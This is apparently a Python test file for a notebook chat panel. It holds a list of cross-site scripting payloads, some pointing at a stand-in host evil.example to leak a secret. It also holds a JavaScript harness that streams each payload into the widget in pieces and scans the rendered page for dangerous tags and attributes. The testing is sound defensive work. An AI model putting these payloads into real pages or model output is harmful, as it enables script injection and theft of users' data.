"""What a model may write to take over the page, and how it is shown to a panel piece by piece."""

from __future__ import annotations

from pathlib import Path

import llmkernel.notebook.panel as room

BUNDLE = Path(room.__file__).parent / "static" / "panel.js"
PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    "[click](javascript:alert(1))",
    "<svg/onload=alert(1)><animate onbegin=alert(1)>",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "![pixel](http://evil.example/p?secret)",
    "[r]: javascript:alert(1)\n\n[r] <http://evil.example>",
    "$\\href{javascript:alert(1)}{x} \\includegraphics{http://evil.example/x.png}$",
    '```html" onmouseover="alert(1)\n<img src=//evil.example/x onerror=alert(1)>\n```',
    "<a href='data:text/html,<script>alert(1)</script>' data-commandlinker-command=x>a</a>",
    "| a |\n|---|\n| <form action=//evil.example><input type=submit autofocus onfocus=alert(1)> |",
]

SHOW = """async ([source, payloads]) => {
  const url = URL.createObjectURL(new Blob([source], { type: 'text/javascript' }));
  const { default: make } = await import(url);
  const listeners = [];
  const model = {
    get: () => undefined, set() {}, save_changes() {}, send() {}, off() {},
    on: (name, callback) => { if (name === 'msg:custom') listeners.push(callback); },
  };
  const widget = make();
  const el = document.body.appendChild(document.createElement('div'));
  el.id = 'attacked';
  widget.initialize({ model });
  widget.render({ model, el });
  let n = 0;
  const tell = (message) => listeners.forEach(listener => listener({ n: n++, ...message }));
  listeners.forEach(listener => listener({ n: n++, whole: { path: [], name: 'x' }, turns: {} }));
  const turn = (text, state) => ({ role: 'assistant', text, state, place: 1, branches: 1,
    attachments: [{ name: text, note: text, tokens: null, text }], problem: text });
  const found = [];
  for (const payload of payloads) {
    for (let at = 0; at <= payload.length; at += 1) {
      tell({ set: { path: ['t'] }, turns: { t: turn('', 'running') } });
      for (const part of [payload.slice(0, at), payload.slice(at)]) {
        if (part) tell({ turn: 't', add: part });
        found.push(...dangers(el));
      }
      tell({ turns: { t: turn(payload, 'done') } });
      found.push(...dangers(el));
      tell({ set: { path: [] }, gone: ['t'] });
    }
  }
  await new Promise(resolve => setTimeout(resolve, 300));
  el.remove();
  return [...new Set(found)];

  function dangers(root) {
    const bad = [];
    for (const element of root.querySelectorAll('.llmk-turn *')) {
      const name = element.localName;
      if (/^(script|iframe|img|object|embed|form|svg:|style|link|video|audio|base|meta)$/.test(name)) {
        bad.push(name);
      }
      for (const { name: key, value } of element.attributes) {
        if (/^on/i.test(key) || /^data-command/.test(key)) bad.push(`${name} ${key}=${value}`);
        if (/^(href|src|action|xlink:href|srcdoc)$/.test(key) && !/^(https?:|mailto:)/.test(value)) {
          bad.push(`${name} ${key}=${value}`);
        }
      }
    }
    return bad;
  }
}"""
